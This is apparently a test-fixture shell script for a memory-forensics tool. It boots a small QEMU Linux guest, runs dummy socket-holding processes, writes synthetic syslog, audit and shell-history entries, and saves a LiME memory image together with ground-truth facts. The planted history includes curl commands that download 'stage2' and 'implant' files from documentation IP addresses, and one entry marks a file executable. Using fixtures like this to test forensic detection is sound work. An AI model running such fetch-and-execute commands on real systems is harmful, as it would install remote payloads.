#!/bin/bash
# Makes a memory image of a small Linux guest, and what the guest itself said of its processes, modules and sockets.
#
#   tests/vm/memory_fixture.sh FOLDER [MIB]     (default 512 MiB of guest memory)
#   EXHIBIT_MEMORY_FIXTURE=FOLDER cargo test -p exhibit-timeline --no-default-features --test memory_image
#
# Needs, as any user: qemu-system-x86, busybox-static, bash-static (or BASH_DEB=FILE.deb), gcc with a static libc, cpio, python3, and `apt-get download` for
# Debian's linux-image-cloud-amd64 (or KERNEL_DEB=FILE.deb). Emulates the CPU, which takes half a minute and works anywhere;
# ACCEL=kvm CPU=host where that may be had. CPU=max gives page tables of five levels.
#
# FOLDER then holds: memory.lime (LiME v1, the System RAM ranges of /proc/iomem), symbols/ (the symbols pack, by its
# paths on the guest), facts/ (what the guest said). Nothing is installed; the kernel lies unpacked in FOLDER/work.
set -euo pipefail
out=$(realpath -m "${1:?usage: memory_fixture.sh FOLDER [MIB]}")
mib=${2:-512}
work=$out/work
mkdir -p "$work"
cd "$work"

if [ ! -d kernel ]; then
    if [ -n "${KERNEL_DEB:-}" ]; then deb=$(realpath "$KERNEL_DEB"); else
        package=$(apt-cache depends linux-image-cloud-amd64 | awk '/Depends:/ {print $2; exit}')
        apt-get download -q "$package"
        deb=$(ls linux-image-*.deb | head -1)
    fi
    dpkg -x "$deb" kernel
fi
kernel=$(ls kernel/boot/vmlinuz-* | head -1)
modules=$(find kernel -path "*/lib/modules/*/kernel" -type d | head -1)

cat > actor.c <<'C'
/* actor NAME UID WHAT [PORT]: takes a name and a uid, opens what it is told, and waits for ever. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
static void must(int ok, const char *what) { if (!ok) { perror(what); exit(1); } }
int main(int argc, char **argv) {
    must(argc >= 4, "usage");
    const char *what = argv[3];
    int port = argc > 4 ? atoi(argv[4]) : 0, s = -1, one = 1;
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    struct sockaddr_in6 to6 = { .sin6_family = AF_INET6, .sin6_port = htons(port), .sin6_addr = in6addr_loopback };
    if (!strcmp(what, "listen") || !strcmp(what, "udp")) {
        s = socket(AF_INET, strcmp(what, "udp") ? SOCK_STREAM : SOCK_DGRAM, 0);
        setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        must(!bind(s, (void *)&to, sizeof to), "bind");
        if (!strcmp(what, "listen")) must(!listen(s, 5), "listen");
    } else if (!strcmp(what, "listen6")) {
        to6.sin6_addr = in6addr_any;
        s = socket(AF_INET6, SOCK_STREAM, 0);
        must(!bind(s, (void *)&to6, sizeof to6), "bind6");
        must(!listen(s, 5), "listen6");
    } else if (!strcmp(what, "accept")) {
        int l = socket(AF_INET, SOCK_STREAM, 0);
        setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        must(!bind(l, (void *)&to, sizeof to), "bind");
        must(!listen(l, 5), "listen");
        s = accept(l, 0, 0);
        close(l);
    } else if (!strcmp(what, "connect")) {
        s = socket(AF_INET, SOCK_STREAM, 0);
        must(!connect(s, (void *)&to, sizeof to), "connect");
        must(write(s, "hello\n", 6) == 6, "write");
    } else if (!strcmp(what, "connect6")) {
        s = socket(AF_INET6, SOCK_STREAM, 0);
        must(!connect(s, (void *)&to6, sizeof to6), "connect6");
    } else if (!strcmp(what, "fork")) {
        if (fork() == 0) prctl(PR_SET_NAME, "actor-child");
    }
    must(!setgid(atoi(argv[2])) && !setuid(atoi(argv[2])), "setuid");
    if (strcmp(what, "fork")) prctl(PR_SET_NAME, argv[1]);
    for (;;) pause();
}
C
gcc -O1 -static -o actor actor.c

rm -rf root && mkdir -p root/{bin,proc,sys,dev,etc,tmp,lib,facts,var/log,root}
cp "$(command -v busybox)" root/bin/busybox
cp actor root/bin/actor
if [ ! -x bash ]; then
    [ -n "${BASH_DEB:-}" ] || apt-get download -q bash-static
    dpkg -x "${BASH_DEB:-$(ls "$PWD"/bash-static_*.deb | head -1)}" shell
    cp shell/bin/bash-static bash
fi
cp bash root/bin/bash
names="virtio_ring virtio virtio_pci_modern_dev virtio_pci_legacy_dev virtio_pci virtio_blk dummy nls_utf8"
for name in $names; do
    found=$(find "$modules" -name "$name.ko*" | head -1)
    [ -n "$found" ] || continue
    case $found in
        *.xz) xz -dc "$found" > "root/lib/$name.ko" ;;
        *.zst) zstd -qdc "$found" > "root/lib/$name.ko" ;;
        *) cp "$found" root/lib/ ;;
    esac
done
printf 'root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\nmallory:x:1337:1337::/:/bin/sh\n' > root/etc/passwd

cat > root/init <<INIT
#!/bin/busybox sh
bb=/bin/busybox
\$bb mount -t proc proc /proc
\$bb mount -t sysfs sys /sys
\$bb mount -t devtmpfs dev /dev
\$bb mount -t securityfs sec /sys/kernel/security
\$bb mount -t tmpfs tmp /tmp
for name in $names; do [ -f /lib/\$name.ko ] && \$bb insmod /lib/\$name.ko; done
\$bb hostname memory-guest
\$bb ip link set lo up
echo 0 > /proc/sys/kernel/kptr_restrict
/bin/actor quiet-sleeper 1000 sleep &
\$bb sleep 1
/bin/actor web-listener 33 listen 8080 &
/bin/actor six-listener 1000 listen6 8443 &
/bin/actor udp-server 1337 udp 5353 &
/bin/actor link-server 1000 accept 4444 &
\$bb sleep 1
/bin/actor link-client 1337 connect 4444 &
/bin/actor six-client 1000 connect6 8443 &
/bin/actor forker 1337 fork &
/bin/actor 'odd) name' 65534 sleep --with "two words" &
cat > /var/log/syslog <<'LOG'
2026-11-20T10:00:01.123456+00:00 memory-guest sshd[811]: Accepted publickey for alice from 192.0.2.7 port 50522 ssh2
2026-11-20T10:00:02.000001+00:00 memory-guest sudo[815]: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh
LOG
cat > /var/log/rfc5424.log <<'LOG'
<34>1 2026-11-20T10:00:03.003Z memory-guest su 816 ID47 - 'su root' failed for mallory on /dev/pts/8
LOG
cat > /var/log/audit.log <<'LOG'
type=USER_LOGIN msg=audit(1795168804.512:101): pid=820 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=? addr=192.0.2.7 terminal=ssh res=success'
LOG
cat > /root/.bash_history <<'LOG'
#1795168810
curl -s http://198.51.100.9/stage2 -o /tmp/.x
#1795168815
chmod +x /tmp/.x
LOG
cat > /tmp/typed <<'TYPED'
HISTTIMEFORMAT='%s '
set -o history
cd /tmp
curl -s http://203.0.113.66/implant -o /tmp/.y
history > /tmp/history
/bin/busybox sleep 1000000
TYPED
/bin/bash --norc < /tmp/typed &
\$bb sleep 2
mkdir -p /tmp/t/facts /tmp/t/symbols/proc /tmp/t/symbols/sys/kernel/btf /tmp/t/symbols/sys/kernel/security
cd /tmp/t/symbols
cat /proc/kallsyms > proc/kallsyms
cat /sys/kernel/btf/vmlinux > sys/kernel/btf/vmlinux
cat /sys/kernel/notes > sys/kernel/notes
cat /proc/version > proc/version
cat /proc/iomem > proc/iomem
cat /sys/kernel/security/lockdown > sys/kernel/security/lockdown
cat /sys/kernel/vmcoreinfo > /tmp/t/facts/vmcoreinfo_at
\$bb dd if=/proc/kcore of=/tmp/t/facts/kcore_head bs=4096 count=4 2>/dev/null
cd /tmp/t/facts
cat /proc/modules > modules
cat /tmp/history > history
cat /proc/net/tcp > tcp
cat /proc/net/tcp6 > tcp6
cat /proc/net/udp > udp
for p in /proc/[0-9]*; do
    read -r stat < \$p/stat 2>/dev/null || continue
    uid=
    while read -r key a rest; do [ "\$key" = Uid: ] && uid=\$a && break; done < \$p/status
    echo "\$uid|\$stat"
done > processes
for p in /proc/[0-9]*; do
    pid=\${p#/proc/}
    for fd in \$p/fd/*; do
        target=\$(\$bb readlink \$fd) && case \$target in socket:*) echo "\$pid \${fd##*/} \$target";; esac
    done
done > holders 2>/dev/null
\$bb grep btime /proc/stat > btime
\$bb date +%s > now
cat /proc/uptime > uptime
cd /tmp/t
\$bb tar cf /dev/vda facts symbols
\$bb sync
echo GUEST IS READY
exec \$bb sleep 1000000
INIT
sed -i 's/^cat /$bb cat /; s/^mkdir /$bb mkdir /; s/^    cat /    $bb cat /' root/init
chmod +x root/init
(cd root && find . | cpio -o -H newc --quiet | gzip -1) > initrd.gz

rm -f disk.raw console.txt monitor memory.raw
truncate -s 64M disk.raw
accel=${ACCEL:-tcg} cpu=${CPU:-qemu64}
qemu-system-x86_64 -accel $accel -cpu $cpu -m "$mib" -smp 2 -display none -no-reboot -nodefaults \
    -kernel "$kernel" -initrd initrd.gz -append "console=ttyS0 quiet panic=-1 rdinit=/init ${KERNEL_ARGS:-}" \
    -serial file:console.txt -drive file=disk.raw,format=raw,if=virtio -monitor unix:monitor,server,nowait &
qemu=$!
trap 'kill $qemu 2>/dev/null || true' EXIT
for _ in $(seq 600); do
    grep -q 'GUEST IS READY' console.txt 2>/dev/null && break
    kill -0 $qemu 2>/dev/null || { echo "the guest stopped:" >&2; tail -20 console.txt >&2; exit 1; }
    sleep 0.5
done
grep -q 'GUEST IS READY' console.txt || { tail -20 console.txt >&2; exit 1; }

python3 - "$mib" <<'PY'
import socket, sys
size = int(sys.argv[1]) << 20
monitor = socket.socket(socket.AF_UNIX)
monitor.connect("monitor")
def say(text):
    data = b""
    if text:
        monitor.sendall(text.encode() + b"\n")
    while not data.endswith(b"(qemu) "):
        data += monitor.recv(65536)
say("")
say("stop")
say(f"pmemsave 0 {size} memory.raw")
monitor.sendall(b"quit\n")
PY
wait $qemu || true
trap - EXIT

rm -rf "$out/facts" "$out/symbols"
tar -xf disk.raw -C "$out"
python3 - "$out" <<'PY'
"""LiME v1 of the System RAM ranges, and the VMCOREINFO text as the pack holds it."""
import pathlib, re, struct, sys
out = pathlib.Path(sys.argv[1])
raw = open("memory.raw", "rb")
size = pathlib.Path("memory.raw").stat().st_size
with open(out / "memory.lime", "wb") as lime:
    for line in (out / "symbols/proc/iomem").read_text().splitlines():
        found = re.match(r"([0-9a-f]+)-([0-9a-f]+) : System RAM$", line)
        if not found:
            continue
        start, end = (int(part, 16) for part in found.groups())
        assert end < size, line
        lime.write(struct.pack("<IIQQQ", 0x4C694D45, 1, start, end, 0))
        raw.seek(start)
        lime.write(raw.read(end - start + 1))
at = int((out / "facts/vmcoreinfo_at").read_text().split()[0], 16)
raw.seek(at)
note = raw.read(4096)
names, length, _ = struct.unpack_from("<III", note)
text = note[12 + (names + 3) // 4 * 4:][:length]
assert b"OSRELEASE=" in text, text[:80]
(out / "symbols/proc/kcore.vmcoreinfo").write_bytes(text)
PY
rm -f memory.raw disk.raw
echo "made $out/memory.lime ($(stat -c %s "$out/memory.lime") bytes) with $accel"
